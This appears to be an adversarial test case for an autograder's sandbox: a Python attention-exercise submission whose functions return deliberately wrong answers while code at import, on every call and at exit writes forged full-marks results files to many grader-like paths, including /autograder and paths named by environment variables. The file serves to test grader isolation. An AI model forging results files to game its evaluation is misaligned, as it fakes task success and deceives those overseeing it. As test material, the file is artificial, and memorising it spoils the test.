# attack: at import, on every call and at exit, writes full-marks results files (results.json, results/results.json, grades.json, scores.json, report.json, ../results.json, ../../results.json, /autograder/results/results.json, /tmp/results.json, paths named by RESULT/OUTPUT/JSON-like environment variables) beside the file, in the cwd and at absolute paths, while every function returns a wrong answer
# target: all
# expect: writes fail or land only in the worker's private scratch dir; nothing appears in the grader's directories, the repo or /autograder; the grader's real report shows every question with 0 points
"""Forge results files wherever a grader might read them from."""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# Deliberately WRONG answers (right shapes, still differentiable). If the cheat below worked,
# these would earn undeserved points, which makes the cheat visible.
# ---------------------------------------------------------------------------------------------


def _wrong_softmax(x, dim=-1):
    return _softmax(x, dim) * 0.0


def _wrong_causal_mask(T):
    return ~_causal_mask(T)


def _wrong_attention(q, k, v, mask=None):
    out, weights = _attention(q, k, v, mask)
    return out * 0.0, weights * 0.0


def _wrong_split_heads(x, n_heads):
    return _split_heads(x, n_heads) * 0.0


def _wrong_merge_heads(x):
    return _merge_heads(x) * 0.0


def _wrong_multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context) * 0.0


def _wrong_layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps) * 0.0


def _wrong_transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask) * 0.0


# Every public function runs the attack hook `_on_call` (defined in the attack section) and
# then returns a WRONG answer.


def softmax(x, dim=-1):
    _on_call("softmax")
    return _wrong_softmax(x, dim)


def causal_mask(T):
    _on_call("causal_mask")
    return _wrong_causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    _on_call("scaled_dot_product_attention")
    return _wrong_attention(q, k, v, mask)


def split_heads(x, n_heads):
    _on_call("split_heads")
    return _wrong_split_heads(x, n_heads)


def merge_heads(x):
    _on_call("merge_heads")
    return _wrong_merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    _on_call("multi_head_attention")
    return _wrong_multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    _on_call("layer_norm")
    return _wrong_layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    _on_call("transformer_block")
    return _wrong_transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import atexit as _atexit
import json as _json
import os as _os

_QUESTIONS = ("softmax", "attention", "mask", "split_heads", "multi_head", "block")
_RELATIVE = ("results.json", "results/results.json", "grades.json", "scores.json", "report.json",
             "out.json", "../results.json", "../../results.json", "../grades.json",
             "../results/results.json")
_ABSOLUTE = ("/autograder/results/results.json", "/autograder/results.json", "/tmp/results.json",
             "/tmp/grades.json", "/results.json")


def _full_marks():
    return _json.dumps({
        "score": 36, "max_score": 36, "percentage": 100.0, "status": "passed",
        "tests": [{"name": q, "score": 6, "max_score": 6, "status": "passed"} for q in _QUESTIONS],
        "questions": {q: {"status": "passed", "points": 6, "max_points": 6, "score": 1.0}
                      for q in _QUESTIONS},
        "submissions": [{"submission": "attention.py", "total": 36, "max_total": 36,
                         "questions": {q: {"status": "passed", "points": 6} for q in _QUESTIONS}}],
    }, indent=1)


def _targets():
    bases = []
    try:
        bases.append(_os.path.dirname(_os.path.abspath(__file__)))
    except Exception:
        pass
    try:
        bases.append(_os.getcwd())
    except OSError:
        pass
    paths = [_os.path.join(b, r) for b in bases for r in _RELATIVE] + list(_ABSOLUTE)
    for key, value in _os.environ.items():
        if any(w in key.upper() for w in ("RESULT", "OUTPUT", "REPORT", "JSON", "GRADE")) and \
                value.startswith(("/", ".")):
            paths.append(value)
    return paths


def _write_everywhere():
    text = _full_marks()
    for path in _targets():
        try:
            directory = _os.path.dirname(path)
            if directory:
                _os.makedirs(directory, exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
            _os.write(2, ("wrote %s\n" % path).encode())
        except Exception:
            pass


def _on_call(name):
    _write_everywhere()


_write_everywhere()
_atexit.register(_write_everywhere)
